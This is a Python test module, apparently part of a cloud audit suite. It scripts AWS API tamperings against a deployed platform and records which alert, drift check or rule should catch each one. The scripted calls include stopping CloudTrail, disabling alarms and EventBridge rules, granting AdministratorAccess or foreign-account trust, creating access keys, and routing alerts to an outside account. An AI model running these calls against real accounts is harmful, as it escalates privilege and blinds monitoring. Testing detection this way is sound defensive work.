"""What a stranger with permissions does to an applied platform, call by call, and the events that AWS makes of it."""

from __future__ import annotations

import io
import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from typing import Any
from zipfile import ZipFile

ACCOUNT = "123456789012"
STRANGER = {"type": "AssumedRole", "arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/stranger/session"}
#: What CloudTrail calls operations of Lambda.
#: https://docs.aws.amazon.com/lambda/latest/dg/logging-using-cloudtrail.html
DATED = {
    "AddPermission": "AddPermission20150331v2",
    "UpdateFunctionCode": "UpdateFunctionCode20150331v2",
}
EVERYTHING = json.dumps({"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]})
FOREIGN_TRUST = json.dumps(
    {
        "Version": "2012-10-17",
        "Statement": [
            {"Effect": "Allow", "Action": "sts:AssumeRole", "Principal": {"AWS": "arn:aws:iam::999999999999:root"}}
        ],
    }
)


@dataclass(frozen=True)
class Stranger:
    """Clients of one region that take down what CloudTrail would say of their calls."""

    client: Callable[[str, str], Any]
    region: str
    suffix: str = "test"
    events: list[dict[str, Any]] = field(default_factory=list)

    def __call__(self, service: str) -> Any:
        client = self.client(service, self.region)
        client.meta.events.register("before-parameter-build.*.*", self._take_down)
        return client

    def name(self, service: str, identifier: str) -> str:
        return f"PROD-{service}-{self.suffix}-{identifier}-{self.region}"

    def _take_down(self, params: Mapping[str, Any], model: Any, **_: Any) -> None:
        if model.name.startswith(("Describe", "Get", "List")):
            return
        source = model.service_model.endpoint_prefix
        self.events.append(
            {
                "eventSource": f"{source}.amazonaws.com",
                "eventName": DATED.get(model.name, model.name) if source == "lambda" else model.name,
                "eventType": "AwsApiCall",
                "userIdentity": STRANGER,
                "requestParameters": {key[:1].lower() + key[1:]: value for key, value in params.items()},
            }
        )


@dataclass(frozen=True, kw_only=True)
class Tampering:
    """One thing that is done, and what notices it.

    Parameters
    ----------
    does
        The calls.
    told
        What pages or becomes a ticket at once: a signal of the trail, or a rule of EventBridge.
    planned
        The type of resource that the next plan wants to change; ``refused`` where it fails instead. Nothing by default.
    drifted
        The type of resource that `make drift` names, and why it says that it matters. Nothing by default.
    judged
        The check of the gate that the next plan fails. Nothing by default.
    found
        The rule of AWS Config that says so. Nothing by default.
    undone
        What puts it right where no plan does. Nothing by default.
    """

    does: Callable[[Stranger], object]
    told: str
    planned: str = ""
    drifted: tuple[str, str] | None = None
    judged: str = ""
    found: str = ""
    undone: Callable[[Stranger], object] | None = None


def other_code() -> bytes:
    """A zip that is not ours."""
    zipped = io.BytesIO()
    with ZipFile(zipped, "w") as archive:
        archive.writestr("index.py", "def handler(event, context): return 'stolen'\n")
    return zipped.getvalue()


def _database_group(stranger: Stranger) -> str:
    name = stranger.name("sg", "database")
    groups = stranger("ec2").describe_security_groups(Filters=[{"Name": "tag:Name", "Values": [name]}])
    return str(groups["SecurityGroups"][0]["GroupId"])


ANYONE = [{"IpProtocol": "tcp", "FromPort": 5432, "ToPort": 5432, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}]


def _topic(stranger: Stranger) -> str:
    return f"arn:aws:sns:{stranger.region}:{ACCOUNT}:{stranger.name('sns', 'page')}"


def _subscriptions(stranger: Stranger) -> list[str]:
    found = stranger("sns").list_subscriptions_by_topic(TopicArn=_topic(stranger))["Subscriptions"]
    return [one["SubscriptionArn"] for one in found if one["Endpoint"].endswith(":stolen")]


def _unsubscribe(stranger: Stranger) -> None:
    for arn in _subscriptions(stranger):
        stranger("sns").unsubscribe(SubscriptionArn=arn)


def _flow_log(stranger: Stranger) -> str:
    return str(stranger("ec2").describe_flow_logs()["FlowLogs"][0]["FlowLogId"])


def _make_user(stranger: Stranger) -> None:
    stranger("iam").create_user(UserName="stranger")
    stranger("iam").create_access_key(UserName="stranger")


def _delete_user(stranger: Stranger) -> None:
    iam = stranger("iam")
    for key in iam.list_access_keys(UserName="stranger")["AccessKeyMetadata"]:
        iam.delete_access_key(UserName="stranger", AccessKeyId=key["AccessKeyId"])
    iam.delete_user(UserName="stranger")


def _key(stranger: Stranger) -> str:
    aliases = stranger("kms").get_paginator("list_aliases").paginate()
    name = f"alias/{stranger.name('kms', 'secrets')}"
    return str(next(one["TargetKeyId"] for page in aliases for one in page["Aliases"] if one["AliasName"] == name))


def _widen_key(stranger: Stranger) -> None:
    key = _key(stranger)
    policy = json.loads(stranger("kms").get_key_policy(KeyId=key, PolicyName="default")["Policy"])
    stranger_s = {"Sid": "Stranger", "Effect": "Allow", "Action": "kms:*", "Resource": "*"}
    policy["Statement"].append(stranger_s | {"Principal": {"AWS": f"arn:aws:iam::{ACCOUNT}:root"}})
    stranger("kms").put_key_policy(KeyId=key, PolicyName="default", Policy=json.dumps(policy))


#: By the words of the table in docs/audit.md.
TAMPERINGS: Mapping[str, Tampering] = {
    "code of a function": Tampering(
        does=lambda to: to("lambda").update_function_code(
            FunctionName=to.name("lambda", "rotation"), ZipFile=other_code()
        ),
        planned="refused",
        drifted=("aws_lambda_function", "code"),
        told="functions",
    ),
    "permission of a function": Tampering(
        does=lambda to: to("lambda").add_permission(
            FunctionName=to.name("lambda", "rotation"),
            StatementId="stranger",
            Action="lambda:InvokeFunction",
            Principal="*",
        ),
        told="functions",
        found="functions-private",
        undone=lambda to: to("lambda").remove_permission(
            FunctionName=to.name("lambda", "rotation"), StatementId="stranger"
        ),
    ),
    "inline policy of a role": Tampering(
        does=lambda to: to("iam").put_role_policy(
            RoleName=to.name("role", "rotation"), PolicyName="stranger", PolicyDocument=EVERYTHING
        ),
        planned="aws_iam_role_policies_exclusive",
        drifted=("aws_iam_role_policies_exclusive", "policies"),
        told="iam",
    ),
    "policy attached to a role": Tampering(
        does=lambda to: to("iam").attach_role_policy(
            RoleName=to.name("role", "application"), PolicyArn="arn:aws:iam::aws:policy/AdministratorAccess"
        ),
        planned="aws_iam_role_policy_attachments_exclusive",
        drifted=("aws_iam_role_policy_attachments_exclusive", "policies"),
        judged="CKV_AWS_274",
        told="iam",
    ),
    "who may take a role on": Tampering(
        does=lambda to: to("iam").update_assume_role_policy(
            RoleName=to.name("role", "trail"), PolicyDocument=FOREIGN_TRUST
        ),
        planned="aws_iam_role",
        drifted=("aws_iam_role", "policies"),
        told="iam",
    ),
    "a user and a key": Tampering(does=_make_user, told="logins", undone=_delete_user),
    "policy of a key": Tampering(
        does=_widen_key, planned="aws_kms_key", drifted=("aws_kms_key", "policies"), told="resource-policies"
    ),
    "rule of a security group": Tampering(
        does=lambda to: to("ec2").authorize_security_group_ingress(GroupId=_database_group(to), IpPermissions=ANYONE),
        drifted=("aws_security_group", "network"),
        judged="MERIDIAN_4",
        told="security-groups",
        undone=lambda to: to("ec2").revoke_security_group_ingress(GroupId=_database_group(to), IpPermissions=ANYONE),
    ),
    "subscription to a topic": Tampering(
        does=lambda to: to("sns").subscribe(
            TopicArn=_topic(to), Protocol="sqs", Endpoint=f"arn:aws:sqs:{to.region}:999999999999:stolen"
        ),
        told="alerting",
        undone=_unsubscribe,
    ),
    "policy of a topic": Tampering(
        does=lambda to: to("sns").set_topic_attributes(
            TopicArn=_topic(to),
            AttributeName="Policy",
            AttributeValue=json.dumps(
                {
                    "Version": "2012-10-17",
                    "Statement": [
                        {"Effect": "Allow", "Principal": "*", "Action": "sns:Subscribe", "Resource": _topic(to)}
                    ],
                }
            ),
        ),
        planned="aws_sns_topic_policy",
        drifted=("aws_sns_topic_policy", "policies"),
        told="alerting",
    ),
    "the trail, stopped": Tampering(
        does=lambda to: to("cloudtrail").stop_logging(Name=to.name("trail", "audit")),
        planned="aws_cloudtrail",
        drifted=("aws_cloudtrail", "watching"),
        told="trail",
    ),
    "an alarm, silenced": Tampering(
        does=lambda to: to("cloudwatch").disable_alarm_actions(AlarmNames=[to.name("alarm", "trail-root")]),
        planned="aws_cloudwatch_metric_alarm",
        drifted=("aws_cloudwatch_metric_alarm", "watching"),
        told="watchers-deleted",
    ),
    "a metric filter, deleted": Tampering(
        does=lambda to: to("logs").delete_metric_filter(
            logGroupName=to.name("logs", "trail"), filterName=to.name("metric", "iam")
        ),
        planned="aws_cloudwatch_log_metric_filter",
        drifted=("aws_cloudwatch_log_metric_filter", "deleted"),
        told="watchers-deleted",
    ),
    "a log kept for a day": Tampering(
        does=lambda to: to("logs").put_retention_policy(logGroupName=to.name("logs", "trail"), retentionInDays=1),
        planned="aws_cloudwatch_log_group",
        drifted=("aws_cloudwatch_log_group", "watching"),
        told="alerting",
    ),
    "a rule of EventBridge, disabled": Tampering(
        does=lambda to: to("events").disable_rule(Name=to.name("events", "watchers-deleted")),
        planned="aws_cloudwatch_event_rule",
        drifted=("aws_cloudwatch_event_rule", "watching"),
        told="silenced",
    ),
    "flow logs, deleted": Tampering(
        does=lambda to: to("ec2").delete_flow_logs(FlowLogIds=[_flow_log(to)]),
        planned="aws_flow_log",
        drifted=("aws_flow_log", "deleted"),
        told="watchers-deleted",
    ),
    "preferences of Session Manager": Tampering(
        does=lambda to: to("ssm").delete_document(Name="SSM-SessionManagerRunShell"),
        planned="aws_ssm_document",
        drifted=("aws_ssm_document", "deleted"),
        told="watchers-deleted",
    ),
}
